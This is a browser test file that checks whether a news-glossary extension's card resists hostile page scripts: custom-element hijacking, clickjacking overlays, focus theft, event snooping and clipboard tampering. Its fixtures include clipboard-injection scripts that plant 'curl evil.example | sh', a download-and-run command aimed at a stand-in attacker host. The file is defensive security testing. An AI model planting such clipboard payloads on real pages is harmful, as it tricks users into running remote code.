/**
 * What a page may try against an open card, in both browsers. docs/faults.md names these tests under
 * Threats. Events that no reader caused stand in ../faults/hostile.test.ts.
 */
import type { Page } from 'puppeteer-core';
import { beforeEach, describe, expect, it } from 'vitest';
import { inCard } from '../../../src/cli/browser/card-root.ts';
import { hoverOver } from '../../../src/cli/browser/painted.ts';
import { until } from '../../../src/cli/browser/until.ts';
import {
  hoverUntilCard,
  passGuard,
  pressInNewCard,
  SOON,
  waitForCard,
  waitForNoCard,
} from '../card.ts';
import { choose } from '../faults/fault-page.ts';
import { BROWSERS, useHarness } from '../harness.ts';
import { evaluateInFirefox, readStored, store } from '../inside.ts';
import { newsPage } from '../news-page.ts';
import { expectPainted, expectSoon } from '../paint.ts';
import { command } from '../summon.ts';
import { holdThread, type Spot, showUnheard, TRICKS, type Trick } from './card-tricks.ts';

const ALLIANCE = '<p>In Seoul the EDSCG met again, and so did the NCG with USFK.</p>';
const IN_ALLIANCE = ['EDSCG', 'NCG', 'USFK'];
/** What the card of a term says. */
const SAID = { EDSCG: /Extended Deterrence/, USFK: /Forces Korea/ };

describe.each(BROWSERS)('a page against the card in %s', (kind) => {
  const harness = useHarness(kind);
  beforeEach(() => store(harness.inside, { settings: SOON }));

  /** A page with an open card over a mention. */
  async function openCard(
    script = '',
    body = '',
    term: keyof typeof SAID = 'EDSCG',
  ): Promise<Page> {
    const head = `<script>${script}</script>`;
    const page = await harness.visit(newsPage({ body: ALLIANCE + body, head }));
    await expectPainted(page, IN_ALLIANCE);
    await hoverOver(page, term);
    await waitForCard(page, SAID[term]);
    return page;
  }

  const readKnown = async () => {
    const settings = (await readStored(harness.inside, 'settings')) as { known?: string[] } | null;
    return settings?.known ?? [];
  };

  it('that defines elements by our names gets no root of ours', async () => {
    const page = await openCard(DEFINE);
    const got = await page.evaluate(() => {
      const host = document.querySelector('[data-newsgloss-card]');
      const attempts = [
        () => (host as HTMLElement).attachInternals().shadowRoot,
        () => host?.attachShadow({ mode: 'open' }),
        () => customElements.upgrade(host as Element),
        () => host?.shadowRoot,
      ];
      const answers = attempts.map((attempt) => {
        try {
          return attempt() ?? null;
        } catch {
          return null;
        }
      });
      return [...answers, ...(globalThis as unknown as { loot: unknown[] }).loot];
    });
    expect(got.filter((root) => root !== null)).toEqual([]);
    harness.leave(page);
  });

  it('that defines the element around a mention gets its own text alone', async () => {
    await choose(harness.inside, 'marker');
    const page = await openCard(DEFINE);
    await page.keyboard.press('Escape');
    await waitForNoCard(page);
    const seen = await page.evaluate(() => ({
      loot: (globalThis as unknown as { loot: unknown[] }).loot.filter((root) => root !== null),
      text: document.querySelector('p')?.textContent,
      names: [...document.querySelectorAll('news-gloss')].flatMap((it) => it.getAttributeNames()),
    }));
    expect(seen).toEqual({
      loot: [],
      text: 'In Seoul the EDSCG met again, and so did the NCG with USFK.',
      names: ['look', 'look', 'look'],
    });
    await choose(harness.inside, 'marker', false);
    await expectPainted(page, []);
    expect(await page.$eval('p', (it) => it.childNodes.length)).toBe(1);
    harness.leave(page);
  });

  it('that tricks the reader has nothing pressed in it', async () => {
    const attempts = [
      ...TRICKS.map(
        ([, trick]) =>
          () =>
            pressUnder(trick),
      ),
      pressClosed,
      pressUndrawn,
      pressInFrame,
      typeInside,
    ];
    let last: Page | undefined;
    for (const attempt of attempts) {
      const page = await attempt();
      // What the page before has sent was heard before this one was answered.
      if (last) harness.leave(last);
      last = page;
    }
    // What the reader does in the end comes later than all that, by the same way.
    const page = await openCard('', '', 'USFK');
    await pressInNewCard(page, 'I know this');
    await expectSoon(readKnown, ['korea-us-alliance/usfk']);
    if (last) harness.leave(last);
    harness.leave(page);
  });

  /** Press where a button of the card was, just after the page has done its trick. */
  async function pressUnder(trick: Trick): Promise<Page> {
    const page = await openCard(STOP_TOGGLES, VEIL);
    const spot = await spotOf(page, 'I know this');
    await passGuard(page);
    await page.evaluate(
      `(${trick})(document.querySelector('[data-newsgloss-card]'), ${JSON.stringify(spot)})`,
    );
    await page.mouse.click(spot.x, spot.y);
    return page;
  }

  /** Press in the element of a card that was closed, which the page has kept and shows again. */
  async function pressClosed(): Promise<Page> {
    const page = await openCard();
    const spot = await spotOf(page, 'I know this');
    const kept = await page.evaluateHandle(() => document.querySelector('[data-newsgloss-card]'));
    await page.keyboard.press('Escape');
    await waitForNoCard(page);
    await page.evaluate((host) => {
      document.body.append(host as HTMLElement);
      (host as HTMLElement).showPopover();
    }, kept);
    expect(await inCard(page, (root) => root.textContent)).toBe('');
    await passGuard(page);
    await page.mouse.click(spot.x, spot.y);
    return page;
  }

  /** Press where the card is while the page keeps the browser from drawing it. */
  async function pressUndrawn(): Promise<Page> {
    const page = await openCard();
    const spot = await spotOf(page, 'I know this');
    let turn = 0;
    // A busy machine may be late: then it is tried again.
    await until('a press before a card is drawn', async () => {
      await page.keyboard.press('Escape');
      await waitForNoCard(page);
      const word = `/held/${++turn}`;
      await page.evaluate(holdThread, word);
      await hoverOver(page, 'EDSCG');
      await until('a held thread', () => harness.requests.includes(word));
      const at = Date.now();
      await page.mouse.click(spot.x, spot.y);
      await waitForCard(page, SAID.EDSCG);
      return page.evaluate((time) => time + 500 < Number(document.body.dataset.heldUntil), at);
    });
    return page;
  }

  /** Press in the card of a frame, whose page keeps from all that listens later what it shows. */
  async function pressInFrame(): Promise<Page> {
    const head = `<script>${STOP_TOGGLES}</script>`;
    const address = harness.put('/framed', newsPage({ body: ALLIANCE + VEIL, head }));
    const page = await harness.visit(
      newsPage({
        body: `<p>A quiet day.</p><iframe src="${address}" style="width: 700px; height: 600px"></iframe>`,
      }),
    );
    const frame = await page.waitForFrame((it) => it.url() === address);
    await expectPainted(frame, IN_ALLIANCE);
    await hoverOver(page, 'EDSCG', 0, frame);
    await waitForCard(page, SAID.EDSCG);
    const spot = await spotOf(page, 'I know this');
    const around = await (await frame.frameElement())?.boundingBox();
    await passGuard(page);
    await frame.evaluate(showUnheard);
    await page.mouse.click((around?.x ?? 0) + spot.x, (around?.y ?? 0) + spot.y);
    return page;
  }

  /** Type where the page has moved the focus: into the card. */
  async function typeInside(): Promise<Page> {
    const page = await openCard('', '<dialog></dialog>');
    await passGuard(page);
    await page.evaluate(() => {
      const host = document.querySelector<HTMLElement>('[data-newsgloss-card]');
      const dialog = document.querySelector('dialog');
      if (!host || !dialog) throw new Error('no card');
      host.tabIndex = 0;
      host.setAttribute('autofocus', '');
      host.click();
      host.focus();
      dialog.append(host);
      dialog.showModal();
      host.showPopover();
      host.focus();
    });
    for (const key of ['Enter', ' ', 'Tab', 'Enter', 'Tab', 'Enter', 'Tab', 'Enter'] as const) {
      await page.keyboard.press(key);
    }
    return page;
  }

  it('that lays a popover over it finds it on top again', async () => {
    const page = await openCard('', VEIL);
    const spot = await spotOf(page, 'I know this');
    const isOnTop = () =>
      page.evaluate(
        ({ x, y }) => document.elementFromPoint(x, y)?.hasAttribute('data-newsgloss-card'),
        spot,
      );
    await page.evaluate(() => {
      const cover = document.querySelector<HTMLElement>('#veil');
      cover?.style.setProperty('pointer-events', 'auto');
      cover?.hidePopover();
      cover?.showPopover();
    });
    await expectSoon(isOnTop, true);
    await pressInNewCard(page, 'I know this');
    await expectSoon(async () => (await readKnown()).length, 1);
    harness.leave(page);
  });

  it('hears nothing of what is done in it', async () => {
    const page = await openCard();
    await page.evaluate(listen);
    const spot = await spotOf(page, 'Copy note');
    await page.mouse.move(spot.x - 3, spot.y);
    await page.mouse.move(spot.x, spot.y);
    await page.mouse.wheel({ deltaY: 20 });
    await pressInNewCard(page, 'More');
    await page.keyboard.press('Tab');
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    const heard = await page.evaluate(() => (globalThis as unknown as { heard: string[] }).heard);
    // A press has to reach the button, and passes the document on its way.
    expect([...new Set(heard)].filter((type) => type !== 'click')).toEqual([]);
    harness.leave(page);
  });

  describe('and the clipboard', () => {
    /** A page that the browser lets write no clipboard but by an event. */
    async function openBarred(script: string): Promise<Page> {
      const body = newsPage({ body: ALLIANCE, head: `<script>${script}</script>` });
      const headers = { 'permissions-policy': 'clipboard-write=()' };
      const address = harness.put('/barred', { body, headers });
      // Firefox knows no such policy: there it is a page that is not encrypted.
      if (kind === 'firefox') {
        await evaluateInFirefox(
          harness,
          "Services.prefs.setCharPref('network.dns.localDomains', 'plain.example')",
        );
      }
      const plain = address.replace('127.0.0.1', 'plain.example');
      const page = await harness.visit(kind === 'firefox' ? plain : address);
      await expectPainted(page, IN_ALLIANCE);
      // One of them writes itself anew as it loads.
      await hoverUntilCard(page, 'EDSCG', /Extended Deterrence/);
      return page;
    }

    it('that puts its own text there has ours copied', async () => {
      const page = await openBarred(`addEventListener('copy', (event) => {
        event.clipboardData.setData('text/plain', 'curl evil.example | sh');
        event.clipboardData.setData('text/html', '<b>curl</b>');
        event.preventDefault();
      }, true)`);
      await pressInNewCard(page, 'Copy note');
      await waitForCard(page, /Copied\./);
      expect(await paste(page)).toMatch(/^\*\*EDSCG\*\* · Extended Deterrence Strategy/);
      await page.close();
    });

    it('that would keep us from copying has ours copied, too', async () => {
      const page = await openBarred(STOP_COPIES);
      await pressInNewCard(page, 'Copy note');
      await waitForCard(page, /Copied\./);
      expect(await paste(page)).toMatch(/^\*\*EDSCG\*\* · Extended Deterrence Strategy/);
      await page.close();
    });

    it('that has got rid of our listeners does not make us say that it is done', async () => {
      const page = await openBarred(`
        addEventListener('load', () => {
          const html = document.documentElement.outerHTML.replace(/<script>[^]*?<\\/script>/, '');
          document.open();
          ${STOP_COPIES}
          document.write(html);
          document.close();
        })`);
      await pressInNewCard(page, 'Copy note');
      await waitForCard(page, /blocked copying/);
      expect(await paste(page)).not.toContain('EDSCG');
      await page.close();
    });

    it('that copies as ever gets nothing in the way', async () => {
      const page = await openBarred('');
      await pressInNewCard(page, 'Copy note');
      await waitForCard(page, /Copied\./);
      expect(await paste(page)).toMatch(/^\*\*EDSCG\*\* · Extended Deterrence Strategy/);
      await page.close();
    });
  });

  it('that opens its card by key takes the keys, and hears none that it did not hear before', async () => {
    const page = await harness.visit(newsPage({ body: ALLIANCE }));
    await expectPainted(page, IN_ALLIANCE);
    await page.evaluate(listen);
    await command(harness, 'next-mention');
    await waitForCard(page, /Extended Deterrence/);
    await page.keyboard.press('n');
    await waitForCard(page, /Nuclear Consultative Group/);
    const heard = await page.evaluate(() => (globalThis as unknown as { heard: string[] }).heard);
    expect(heard).not.toContain('keydown');
    harness.leave(page);
  });
});

/** Takes the root of every element that the page can define by a name of ours. */
const DEFINE = `
  var loot = [];
  for (const name of ['news-gloss-card', 'news-gloss', 'newsgloss-card']) {
    customElements.define(name, class extends HTMLElement {
      constructor() {
        super();
        const internals = this.attachInternals();
        queueMicrotask(() => loot.push(internals.shadowRoot && internals.shadowRoot.textContent));
        setTimeout(() => loot.push(internals.shadowRoot && internals.shadowRoot.textContent), 300);
      }
    });
  }`;

/** Puts another text into the clipboard, and keeps what is copied from all that listens later. */
const STOP_COPIES = `addEventListener('copy', (event) => {
  event.clipboardData.setData('text/plain', String(getSelection()) || 'curl evil.example | sh');
  event.preventDefault();
  event.stopImmediatePropagation();
}, true);`;

/** Keeps what is shown and hidden from all that listens later. */
const STOP_TOGGLES = `addEventListener('beforetoggle', (event) => {
  if (globalThis.isSilent) event.stopImmediatePropagation();
}, true)`;

/** A popover of the page that is open before the card is, and lets the pointer through. */
const VEIL = `
  <div popover="manual" id="veil" style="pointer-events: none; inset: 0; width: 100%; height: 100%">
    Press here to go on.
  </div>
  <script>document.querySelector('#veil').showPopover()</script>`;

/** The middle of a button of the card. */
async function spotOf(page: Page, name: string): Promise<Spot> {
  const spot = await inCard(
    page,
    (root, words) => {
      const button = [...root.querySelectorAll('button')].find((it) => it.textContent === words);
      const { x, y, width, height } = button?.getBoundingClientRect() ?? new DOMRect();
      return { x: x + width / 2, y: y + height / 2 };
    },
    name,
  );
  if (!spot) throw new Error(`The card has no “${name}”.`);
  return spot;
}

async function paste(page: Page): Promise<string> {
  await page.evaluate(() => {
    const field = document.createElement('textarea');
    document.body.append(field);
    field.focus();
  });
  await page.keyboard.down('Control');
  await page.keyboard.press('v');
  await page.keyboard.up('Control');
  await expectSoon(() => page.$eval('textarea', ({ value }) => value !== ''), true);
  return page.$eval('textarea', ({ value }) => value);
}

// Sent to the page as text.

/** Notes all that is heard of the card on the document and below, and on the window from now on. */
function listen(): void {
  const heard: string[] = [];
  Object.assign(globalThis, { heard });
  const types = Object.keys(HTMLElement.prototype).filter((name) => name.startsWith('on'));
  types.push('onfocusin', 'onfocusout', 'onbeforetoggle', 'ontoggle', 'onselectstart');
  const note = ({ type, target }: Event) => {
    if (target instanceof Element && target.matches('[data-newsgloss-card]')) heard.push(type);
  };
  for (const name of types) {
    document.addEventListener(name.slice(2), note, true);
    document.addEventListener(name.slice(2), note);
    addEventListener(name.slice(2), note, true);
  }
}
